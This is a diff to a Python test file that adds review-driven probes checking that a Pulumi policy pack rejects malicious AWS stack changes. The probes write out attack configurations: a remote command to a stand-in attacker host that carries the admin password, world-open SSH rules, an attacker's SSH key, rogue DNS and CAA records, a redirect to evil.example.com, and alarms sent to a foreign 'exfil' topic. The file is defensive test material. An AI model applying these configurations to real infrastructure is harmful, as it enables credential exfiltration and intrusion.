@@ -10,6 +10,7 @@ the probe's), see tests/policy/test_policies.py."""
 
 from __future__ import annotations
 
+import ipaddress
 import json
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -24,6 +25,7 @@ from tests.standins.policy_engine import (
     registration_of,
     run_program,
     running_pack,
+    with_aws_default_tags,
 )
 from tests.standins.pulumi_harness import FAKE_ACCOUNT_ID, dev_config
 
@@ -724,6 +726,435 @@ PROBES = [
         refused_by="command-remote-command",
     ),
 ]
+# The second independent review of issue 22 (its findings 1-10), each probe passed the pack before its fix.
+SECRET_SIGNATURE = "1b47061264138c4ac30d75fd1eb44270"
+
+
+def exfiltrating_command(stack: list[EngineResource]) -> list[EngineResource]:
+    """Review 2, P1: a new remote command at the stack's root to a foreign host with its own pinned key, the
+    admin password on stdin."""
+    connection = {"host": "203.0.113.66", "user": "x", "privateKey": "k", "hostKey": "ssh-ed25519 AAAAattacker"}
+    return [
+        made(
+            "command:remote:Command",
+            "exfil",
+            {
+                "create": "cat > /dev/null",
+                "stdin": {SECRET: SECRET_SIGNATURE, "value": "the-admin-password"},
+                "connection": {SECRET: SECRET_SIGNATURE, "value": connection},
+            },
+        )
+    ]
+
+
+def repointed_command(stack: list[EngineResource]) -> list[EngineResource]:
+    """Review 2, P1b: the program's own command re-pointed to another host and key (its dependencies unchanged)."""
+    return in_connection(lambda c: c.update(host="203.0.113.66", hostKey="ssh-ed25519 AAAAattacker"))(stack)
+
+
+def command_from_a_foreign_host(stack: list[EngineResource]) -> list[EngineResource]:
+    """The program's command with its connection from a resource of the probe's, not the VM's EIP."""
+    eip = made("aws:ec2/eip:Eip", "probe-eip", {"domain": "vpc"}, outputs={"domain": "vpc", "publicIp": "203.0.113.66"})
+    command_resource = repointed_command(stack)[0]
+    deps = [u for u in command_resource.property_dependencies["connection"] if not u.endswith("-eip")]
+    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": [*deps, eip.urn]}
+    return [eip, command_resource]
+
+
+REVIEW2_PROBES = [
+    Probe(
+        "review2-remote-commands",
+        "P1 a remote command at the root to any host with its own pinned key, a secret on stdin",
+        "dev",
+        exfiltrating_command,
+        refused_by="command-remote-command",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1 (stack) the same command is no program component's",
+        "dev",
+        exfiltrating_command,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1b the program's command re-pointed to another host and key",
+        "dev",
+        repointed_command,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1c the program's command connecting through an EIP of its own",
+        "dev",
+        command_from_a_foreign_host,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1d node 1's command with node 0's host key",
+        "ha",
+        lambda s: [node1_with_node0_key(s)],
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+]
+
+
+def node1_with_node0_key(stack: list[EngineResource]) -> EngineResource:
+    command_resource = changed(stack, "harbor-install-1-start", lambda p: p)
+    key0 = registration_of(stack, "harbor-vm-host-key").urn
+    deps = [u if not u.endswith("-host-key") else key0 for u in command_resource.property_dependencies["connection"]]
+    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": deps}
+    return command_resource
+
+
+def registry_policy_behind(value: str, depend_on_random: bool) -> Callable[[list[EngineResource]], list[EngineResource]]:
+    """Review 2, finding 2: the program's registry policy with its document from a RandomId (unknown at preview),
+    or naming the Pulumi state bucket (at `up`, where the stack checks come after the change)."""
+
+    def build(stack):
+        nonce = made("random:index/randomId:RandomId", "nonce", {"byteLength": 4}, outputs={"byteLength": 4, "hex": UNKNOWN})
+        policy = changed(stack, "harbor-storage-registry-access", lambda p: p.update(policy=value))
+        if depend_on_random:
+            policy.property_dependencies = {**policy.property_dependencies, "policy": [nonce.urn]}
+        return [nonce, policy]
+
+    return build
+
+
+STATE_BUCKET_GRANT = document(
+    {"Effect": "Allow", "Action": ["s3:ListBucket"], "Resource": STATE_BUCKET},
+    {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"{STATE_BUCKET}/*"},
+)
+REVIEW2_PROBES += [
+    Probe(
+        "review2-registry-grant",
+        "P-registry: the registry policy's document unknown, from a RandomId instead of the bucket",
+        "s3",
+        registry_policy_behind(UNKNOWN, depend_on_random=True),
+        refused_by="registry-grant-names-the-programs-bucket",
+    ),
+    Probe(
+        "review2-registry-grant",
+        "P-registry at up: the registry policy names the state bucket (resource check, before the change)",
+        "s3",
+        registry_policy_behind(STATE_BUCKET_GRANT, depend_on_random=True),
+        refused_by="aws-iam-rolepolicy-rolepolicy",
+    ),
+]
+
+EXEMPTION_DEFAULT_TAGS = {"tags": {"harbor-cache:allow-public-access": "true"}}
+
+
+def public_by_default_tags(provider_major: int | None) -> Callable[[list[EngineResource]], list[EngineResource]]:
+    """Review 2, finding 3: aws:defaultTags with the public exemption, merged by pulumi-aws into every resource
+    (the harness's model of its Check: into tagsAll in v7, into tags too in v6), and the program's web group
+    opened to the world."""
+
+    def build(stack):
+        tagged = with_aws_default_tags(stack, EXEMPTION_DEFAULT_TAGS, provider_major)
+        provider = next(r for r in tagged if r.type == "pulumi:providers:aws")
+        group = next(r for r in tagged if r.name == "harbor-vm-sg")
+        for properties in (group.inputs, group.outputs):
+            properties["ingress"].append(tcp(443, "0.0.0.0/0"))
+        return [provider, group]
+
+    return build
+
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-default-tags",
+        "P-defaultTags: the AWS provider's defaultTags carry the public exemption",
+        "dev",
+        lambda s: [r for r in with_aws_default_tags(s, EXEMPTION_DEFAULT_TAGS) if r.type == "pulumi:providers:aws"],
+        refused_by="pulumi-providers-aws",
+    ),
+    Probe(
+        "review2-default-tags",
+        "P-defaultTags: the web group opened to the world under a provider with the exemption as a default tag",
+        "dev",
+        public_by_default_tags(None),
+        refused_by="program-tags-come-from-the-program",
+    ),
+    Probe(
+        "review2-default-tags",
+        "P-defaultTags (pulumi-aws v6 merge into tags): the web group opened to the world",
+        "dev",
+        public_by_default_tags(6),
+        refused_by="program-tags-come-from-the-program",
+    ),
+]
+
+
+def public_group_under_a_second_vm(group_name: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
+    """Review 2, P7: a web group with the public tag under a HarborVm the program does not make."""
+
+    def build(stack):
+        vm = engine_urn("dev", CACHE_URN, "harbor-cache:index:HarborVm", "anything")
+        component_resource = EngineResource("harbor-cache:index:HarborVm", "anything", vm, {}, {}, CACHE_URN)
+        inputs = {
+            "vpcId": "vpc-0a1b2c3d",
+            "ingress": [tcp(443, "0.0.0.0/0")],
+            "tags": {"harbor-cache:allow-public-access": "true"},
+        }
+        group = EngineResource(
+            "aws:ec2/securityGroup:SecurityGroup",
+            group_name,
+            engine_urn("dev", vm, "aws:ec2/securityGroup:SecurityGroup", group_name),
+            inputs,
+            inputs,
+            vm,
+        )
+        return [component_resource, group]
+
+    return build
+
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-exemption-by-urn",
+        "P7 a world-open web group with the public tag under a second HarborVm",
+        "dev",
+        lambda s: public_group_under_a_second_vm("evil-sg")(s)[1:],
+        refused_by="aws-ec2-securitygroup-securitygroup",
+    ),
+    Probe(
+        "review2-exemption-by-urn",
+        "P7b the same named like a node group (harbor-vm-9-sg)",
+        "dev",
+        lambda s: public_group_under_a_second_vm("harbor-vm-9-sg")(s)[1:],
+        refused_by="aws-ec2-securitygroup-securitygroup",
+    ),
+    Probe(
+        "review2-exemption-by-urn",
+        "P7c a second HarborVm component",
+        "dev",
+        lambda s: public_group_under_a_second_vm("evil-sg")(s)[:1],
+        refused_by="components-are-the-programs",
+    ),
+]
+
+
+def split_ssh_world(stack: list[EngineResource]) -> list[EngineResource]:
+    """Review 2, P2: 22 from the world split across two new groups, both attached to the instance."""
+    a = sg("extra-a", [tcp(22, "0.0.0.0/1")], under=None)
+    b = sg("extra-b", [tcp(22, "128.0.0.0/1")], under=None)
+    instance = changed(stack, "harbor-vm-instance", lambda p: p.update(vpcSecurityGroupIds=["harbor-vm-sg-id", "a-id", "b-id"]))
+    instance.property_dependencies = {
+        **instance.property_dependencies,
+        "vpcSecurityGroupIds": [registration_of(stack, "harbor-vm-sg").urn, a.urn, b.urn],
+    }
+    return [a, b, instance]
+
+
+FOREIGN_GROUP = "sg-0worldopen000000"
+REVIEW2_PROBES += [
+    Probe(
+        "review2-foreign-groups",
+        "P2 22 from the world split across two groups on one instance",
+        "dev",
+        split_ssh_world,
+        refused_by="security-groups-are-the-programs",
+    ),
+    Probe(
+        "review2-foreign-groups",
+        "P4 8080 and 5432 from a literal (the VPC's default) group",
+        "ha",
+        lambda s: [
+            changed(
+                s,
+                "harbor-vm-sg",
+                lambda p: (
+                    p["ingress"][0].update(securityGroups=["sg-0default00000000"]),
+                    p["ingress"].append(tcp(5432, securityGroups=["sg-0default00000000"])),
+                ),
+            )
+        ],
+        refused_by="security-groups-are-the-programs",
+    ),
+    Probe(
+        "review2-foreign-groups",
+        "P5 the instance joins a literal pre-existing group",
+        "dev",
+        lambda s: [changed(s, "harbor-vm-instance", lambda p: p.update(vpcSecurityGroupIds=["harbor-vm-sg-id", FOREIGN_GROUP]))],
+        refused_by="security-groups-are-the-programs",
+    ),
+    Probe(
+        "review2-foreign-groups",
+        "P6 the load balancer in a literal group besides its own",
+        "ha",
+        lambda s: [changed(s, "harbor-lb-alb", lambda p: p.update(securityGroups=["harbor-lb-sg-id", FOREIGN_GROUP]))],
+        refused_by="security-groups-are-the-programs",
+    ),
+    Probe(
+        "review2-foreign-groups",
+        "P6 (review's) the load balancer's own group replaced by a literal world-open group",
+        "ha",
+        lambda s: [changed(s, "harbor-lb-alb", lambda p: p.update(securityGroups=[FOREIGN_GROUP]))],
+        refused_by="security-groups-are-the-programs",
+    ),
+    Probe(
+        "review2-foreign-groups",
+        "P12 the instance attaches a pre-existing network interface",
+        "dev",
+        lambda s: [
+            changed(
+                s,
+                "harbor-vm-instance",
+                lambda p: p.update(networkInterfaces=[{"deviceIndex": 1, "networkInterfaceId": "eni-0123"}]),
+            )
+        ],
+        refused_by="aws-ec2-instance-instance",
+    ),
+]
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-dns",
+        "P8 an A record for another name in the zone to an outside address",
+        "dev",
+        lambda s: [
+            made(
+                "aws:route53/record:Record",
+                "www",
+                {"zoneId": "Z0123", "name": "www.dev.example.com", "type": "A", "ttl": 60, "records": ["203.0.113.66"]},
+            )
+        ],
+        refused_by="aws-route53-record-record",
+    ),
+    Probe(
+        "review2-dns",
+        "P8b a CAA record for the cache's name with allowOverwrite, naming another CA",
+        "dev",
+        lambda s: [
+            made(
+                "aws:route53/record:Record",
+                "caa2",
+                {
+                    "zoneId": "Z0123",
+                    "name": "harbor.dev.example.com",
+                    "type": "CAA",
+                    "ttl": 60,
+                    "allowOverwrite": True,
+                    "records": ['0 issue "evil-ca.example"'],
+                },
+            )
+        ],
+        refused_by="aws-route53-record-record",
+    ),
+    Probe(
+        "review2-dns",
+        "P8c the program's CAA record naming another CA",
+        "dev",
+        lambda s: [changed(s, "harbor-caa-caa", lambda p: p.update(records=['0 issue "evil-ca.example"']))],
+        refused_by="aws-route53-record-record",
+    ),
+    Probe(
+        "review2-dns",
+        "P8d the program's A record moved to another name with allowOverwrite",
+        "dev",
+        lambda s: [changed(s, "harbor-dns-a", lambda p: p.update(name="www.dev.example.com", allowOverwrite=True))],
+        refused_by="aws-route53-record-record",
+    ),
+]
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-nits",
+        "P9 the HTTP listener redirects to another host",
+        "ha",
+        lambda s: [changed(s, "harbor-lb-http", lambda p: p["defaultActions"][0]["redirect"].update(host="evil.example.com"))],
+        refused_by="aws-lb-listener-listener",
+    ),
+    Probe(
+        "review2-nits",
+        "P10 an alarm notifies another account's SNS topic",
+        "dev",
+        lambda s: [
+            changed(
+                s, "harbor-alarms-data-disk", lambda p: p.update(alarmActions=["arn:aws:sns:eu-central-1:999999999999:exfil"])
+            )
+        ],
+        refused_by="alarms-notify-the-programs-topic",
+    ),
+]
+
+
+def all_of_ipv4_but_one() -> list[str]:
+    everything = ipaddress.ip_network("0.0.0.0/0")
+    return [str(n) for n in everything.address_exclude(ipaddress.ip_network("255.255.255.255/32"))]
+
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-world",
+        "P3 22 from every IPv4 address but 255.255.255.255",
+        "dev",
+        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].__setitem__(-1, tcp(22, *all_of_ipv4_but_one())))],
+        refused_by="aws-ec2-securitygroup-securitygroup",
+    ),
+    Probe(
+        "review2-world",
+        "P3b 443 from 0.0.0.0/1 (half the internet) without allowPublicAccess",
+        "dev",
+        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(443, "0.0.0.0/1")))],
+        refused_by="aws-ec2-securitygroup-securitygroup",
+    ),
+    Probe(
+        "review2-world",
+        "P3c 22 from a public /12",
+        "dev",
+        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(22, "100.128.0.0/12")))],
+        refused_by="aws-ec2-securitygroup-securitygroup",
+    ),
+]
+
+
+def literal_identity(name: str, key: str, value: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
+    """Review 2, finding 8: a field of a 'nothing to check' type set to a literal id, its dependency gone."""
+
+    def build(stack):
+        resource = changed(stack, name, lambda p: p.update({key: value}))
+        resource.property_dependencies = {**resource.property_dependencies, key: []}
+        return [resource]
+
+    return build
+
+
+REVIEW2_PROBES += [
+    Probe(
+        "review2-identities",
+        "P-volume attached to a foreign instance",
+        "dev",
+        literal_identity("harbor-vm-data-attachment", "instanceId", "i-0foreign00000000"),
+        refused_by="identities-come-from-the-program",
+    ),
+    Probe(
+        "review2-identities",
+        "P-EIP associated with another instance",
+        "dev",
+        literal_identity("harbor-vm-eip-association", "instanceId", "i-0foreign00000000"),
+        refused_by="identities-come-from-the-program",
+    ),
+    Probe(
+        "review2-identities",
+        "P-instance with a pre-existing key pair",
+        "dev",
+        literal_identity("harbor-vm-instance", "keyName", "ops-laptop"),
+        refused_by="identities-come-from-the-program",
+    ),
+    Probe(
+        "review2-identities",
+        "P-key pair with an attacker's public key",
+        "dev",
+        literal_identity("harbor-vm-key-pair", "publicKey", "ssh-ed25519 AAAAattacker"),
+        refused_by="identities-come-from-the-program",
+    ),
+]
+
+PROBES += REVIEW2_PROBES
+
 ISSUE_GAPS = (
     "imds",
     "identity",
